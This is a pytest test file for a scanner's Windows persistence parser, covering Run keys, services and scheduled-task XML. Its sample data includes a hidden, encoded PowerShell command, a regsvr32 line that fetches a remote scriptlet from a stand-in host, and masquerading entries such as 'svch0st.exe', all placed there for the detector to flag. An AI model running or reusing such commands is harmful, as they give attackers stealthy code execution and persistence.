"""Windows persistence parsing (Run keys, services, scheduled tasks) on sample data, anywhere."""

from __future__ import annotations

import contextlib
import sys
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from quet.errors import InputError
from quet.scanner.persistence import PersistenceEntry
from quet.scanner.persistence_windows import (
    DEFAULT_ENV,
    RUN_KEYS,
    command_target,
    decode_task_file,
    parse_run_values,
    parse_service,
    parse_task_xml,
    windows_entries,
)

DATA = Path(__file__).parent / "data" / "persistence" / "windows"
TASK_PATH = r"C:\Windows\System32\Tasks\Microsoft\Windows\WindowsUpdate\wupdmgr"


def _tsv(name: str) -> list[list[str]]:
    lines = (DATA / name).read_text(encoding="utf-8").splitlines()
    return [line.split("\t") for line in lines if line and not line.startswith("#")]


def test_task_xml_utf16_file() -> None:
    text = decode_task_file((DATA / "wupdmgr.xml").read_bytes())
    entries = parse_task_xml(TASK_PATH, text)
    assert len(entries) == 3
    assert entries[0] == PersistenceEntry(
        "windows-task",
        TASK_PATH,
        0,
        r"%SystemRoot%\System32\WindowsPowerShell\v1.0\powershell.exe -nop -w hidden "
        "-enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=",
        [r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"],
    )
    assert entries[1].command == r'"C:\ProgramData\Intel Graphics\igfxhelper.exe" /silent'
    assert entries[1].targets == [r"C:\ProgramData\Intel Graphics\igfxhelper.exe"]
    assert entries[2].command == "ComHandler {A6BA00FE-40E8-477C-B713-C64A14F28ACA} LogonTrigger"
    assert entries[2].targets == []


def test_task_xml_without_namespace_and_broken() -> None:
    plain = "<Task><Actions><Exec><Command>C:\\a.exe</Command></Exec></Actions></Task>"
    assert [e.command for e in parse_task_xml("t", plain)] == ["C:\\a.exe"]
    with pytest.raises(InputError, match=r"^C:\\T\\bad: line 3: not a Task Scheduler XML"):
        parse_task_xml(r"C:\T\bad", "<Task>\n<Actions>\n</Task>")
    with pytest.raises(InputError, match="root <html>"):
        parse_task_xml("x", "<html/>")


def test_decode_task_file_variants() -> None:
    text = "<Task/>"
    assert decode_task_file(b"\xff\xfe" + text.encode("utf-16-le")) == text
    assert decode_task_file(text.encode("utf-16-le")) == text  # no BOM
    assert decode_task_file(b"\xef\xbb\xbf" + text.encode()) == text


def test_run_values() -> None:
    rows = _tsv("run_values.tsv")
    entries: list[PersistenceEntry] = []
    for key in dict.fromkeys(r[0] for r in rows):
        entries += parse_run_values(key, [(r[1], r[2]) for r in rows if r[0] == key])
    assert len(entries) == 7  # Winlogon's DefaultUserName and AutoRestartShell are settings
    by_name = {e.command.split(" = ", 1)[0]: e for e in entries}
    assert by_name["WinUpdater"] == PersistenceEntry(
        "windows-run-key",
        r"HKCU\Software\Microsoft\Windows\CurrentVersion\Run",
        0,
        r'WinUpdater = rundll32.exe "C:\Users\an\AppData\Roaming\Microsoft\wupd.dll",DllRegister',
        [r"C:\Users\an\AppData\Roaming\Microsoft\wupd.dll"],
    )
    assert by_name["SecurityHealth"].targets == [r"C:\Windows\system32\SecurityHealthSystray.exe"]
    assert by_name["Setup"].targets == [r"C:\Program Files (x86)\Zalo\Update.exe"]
    assert by_name["Userinit"].targets == [
        r"C:\Windows\system32\userinit.exe",
        r"C:\Windows\Temp\svch0st.exe",
    ]
    assert by_name["Shell"].targets == ["explorer.exe"]


def test_services() -> None:
    entries = {}
    for name, image, start, stype in _tsv("services.tsv"):
        entry = parse_service(name, image, int(start), int(stype))
        if entry is not None:
            entries[name] = entry
    assert sorted(entries) == ["Beep", "Dhcp", "MsSecCore", "Tcpip", "WinDefend"]  # 3/4: not auto
    assert entries["Tcpip"] == PersistenceEntry(
        "windows-service",
        r"HKLM\SYSTEM\CurrentControlSet\Services\Tcpip",
        0,
        r"driver Tcpip (start 0): System32\drivers\tcpip.sys",
        [r"C:\Windows\System32\drivers\tcpip.sys"],
    )
    assert entries["MsSecCore"].targets == [r"C:\Windows\System32\drivers\msseccore.sys"]
    assert entries["Beep"].targets == [r"C:\Windows\Temp\beepdrv.sys"]
    assert entries["Dhcp"].targets == [r"C:\Windows\system32\svchost.exe"]
    assert entries["WinDefend"].targets == [
        r"C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.23110.3-0\MsMpEng.exe"
    ]
    assert parse_service("x", "  ", 2, 16) is None


@pytest.mark.parametrize(
    ("command", "target"),
    [
        (r'"C:\Program Files\x.exe" -a', r"C:\Program Files\x.exe"),
        (r"C:\Program Files\Vendor App\app.exe -a b", r"C:\Program Files\Vendor App\app.exe"),
        (r"rundll32 C:\Users\a\x.dll,Entry", r"C:\Users\a\x.dll"),
        (r"rundll32.exe shell32.dll,Control_RunDLL", "shell32.dll"),
        (r"%WINDIR%\System32\regsvr32.exe /s /n /i:http://x.example/a scrobj.dll", "scrobj.dll"),
        (r"%AppData%\Evil\e.exe", r"C:\Users\an\AppData\Roaming\Evil\e.exe"),
        (r"%Unknown%\x.exe", r"%Unknown%\x.exe"),
        ('"C:\\unterminated.exe', r"C:\unterminated.exe"),
        ("", ""),
    ],
)
def test_command_target(command: str, target: str) -> None:
    env = {**DEFAULT_ENV, "APPDATA": r"C:\Users\an\AppData\Roaming"}
    assert command_target(command, env) == target


def test_run_keys_cover_the_usual_places() -> None:
    assert r"HKLM\Software\Microsoft\Windows\CurrentVersion\Run" in RUN_KEYS
    assert r"HKCU\Software\Microsoft\Windows\CurrentVersion\RunOnce" in RUN_KEYS
    assert any("Wow6432Node" in k for k in RUN_KEYS)
    assert any(k.endswith("Winlogon") for k in RUN_KEYS)


@pytest.mark.skipif(sys.platform == "win32", reason="checks the non-Windows guard")
def test_windows_entries_elsewhere() -> None:
    assert windows_entries() == ([], ["not Windows"])
    assert "winreg" not in sys.modules


@given(st.text(max_size=200))
def test_command_target_fuzz(command: str) -> None:
    assert isinstance(command_target(command), str)
    assert isinstance(command_target(command, {"x": "%x%"}), str)


@given(st.text(max_size=300))
def test_task_xml_fuzz(text: str) -> None:
    with contextlib.suppress(InputError):
        parse_task_xml("t", text)
